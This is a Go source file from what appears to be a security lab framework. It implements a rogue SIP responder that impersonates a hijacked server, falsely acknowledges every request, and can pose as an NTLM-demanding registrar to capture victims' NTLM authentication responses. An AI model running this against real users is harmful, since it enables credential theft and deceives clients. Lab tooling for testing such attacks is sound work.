package attacker

import (
	"context"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	sipgo "github.com/emiago/sipgo/sip"

	"github.com/tlslab/tlslab/actors/ntlm"
)

// SIPResponder makes the attacker the victim's server: no upstream
// connection is made, and every SIP request the victim sends is answered
// 200 OK, so the victim believes it was delivered. Use it where the victim
// was steered to the attacker's own host (a hijacked DNS name, a poisoned
// SRV record) and there is no real server to relay to; the proxy's capture
// still records every request. Pair it with ProxyConfig.SIP.
//
// With NTLM set, the responder is a rogue registrar that demands NTLM as
// a Skype for Business pool does (MS-SIPAE, see sip.NTLMAuth): it answers
// a connection's first REGISTERs 401 until the victim has sent an
// AUTHENTICATE, which it hands to NTLM, then 200 as before.
type SIPResponder struct {
	// Agent is the Server header of the answers; empty means
	// "tlslab-sip", what the lab's real servers send.
	Agent string
	// NTLM, when set, draws the CHALLENGEs and receives every
	// AUTHENTICATE (Authenticate, so its OnCapture gets the
	// ntlm.Captured). Give it a capture-only server (no Users): the
	// REGISTER that carries the AUTHENTICATE is answered 200 whatever
	// NTLM's verdict, for the attacker wants the response, not the user.
	// Nil (the default) demands nothing.
	NTLM *ntlm.Server
	// TargetName is the server name the demand claims (targetname);
	// empty means the victim's SNI, or the address it dialled.
	TargetName string
}

// Connect implements UpstreamSide: it returns an in-memory connection to a
// goroutine that answers requests until the proxy closes it.
func (r SIPResponder) Connect(_ context.Context, t UpstreamTarget, hs *Handshake) (net.Conn, error) {
	agent := r.Agent
	if agent == "" {
		agent = "tlslab-sip"
	}
	var demand *ntlmDemand
	if r.NTLM != nil {
		demand = &ntlmDemand{srv: r.NTLM, target: r.TargetName}
		if demand.target == "" {
			demand.target = t.ServerName
		}
		if demand.target == "" {
			demand.target = t.Dialled.Addr().String()
		}
	}
	reqR, reqW := io.Pipe()
	resR, resW := io.Pipe()
	c := &responderConn{reqW: reqW, resR: resR, done: make(chan struct{})}
	go func() {
		defer close(c.done)
		defer resW.Close()
		f := newSIPFramer()
		buf := make([]byte, 4096)
		for {
			n, err := reqR.Read(buf)
			f.feed(buf[:n])
			for {
				_, msg, ok := f.next()
				if !ok {
					break
				}
				req, isReq := msg.(*sipgo.Request)
				if !isReq || req.IsAck() {
					continue
				}
				res := demand.answer(req)
				if res == nil {
					res = sipgo.NewResponseFromRequest(req, sipgo.StatusOK, "OK", nil)
				}
				res.AppendHeader(sipgo.NewHeader("Server", agent))
				if _, werr := io.WriteString(resW, res.String()); werr != nil {
					reqR.CloseWithError(werr)
					return
				}
			}
			if err != nil {
				return
			}
		}
	}()
	hs.Completed = true
	return c, nil
}

// responderConn is the proxy's end of a SIPResponder: writes are requests,
// reads are answers. CloseWrite ends the requests; Close ends both and
// waits for the responder's goroutine.
type responderConn struct {
	reqW *io.PipeWriter
	resR *io.PipeReader
	done chan struct{}
	once sync.Once
}

var _ net.Conn = (*responderConn)(nil)

func (c *responderConn) Read(b []byte) (int, error) {
	n, err := c.resR.Read(b)
	if errors.Is(err, io.ErrClosedPipe) {
		err = net.ErrClosed
	}
	return n, err
}

func (c *responderConn) Write(b []byte) (int, error) {
	n, err := c.reqW.Write(b)
	if errors.Is(err, io.ErrClosedPipe) {
		err = net.ErrClosed
	}
	return n, err
}

func (c *responderConn) CloseWrite() error { return c.reqW.Close() }

func (c *responderConn) Close() error {
	c.once.Do(func() {
		c.reqW.Close()
		c.resR.Close()
		<-c.done
	})
	return nil
}

type responderAddr struct{}

func (responderAddr) Network() string { return "attacker" }
func (responderAddr) String() string  { return "sip-responder" }

func (c *responderConn) LocalAddr() net.Addr              { return responderAddr{} }
func (c *responderConn) RemoteAddr() net.Addr             { return responderAddr{} }
func (c *responderConn) SetDeadline(time.Time) error      { return nil }
func (c *responderConn) SetReadDeadline(time.Time) error  { return nil }
func (c *responderConn) SetWriteDeadline(time.Time) error { return nil }
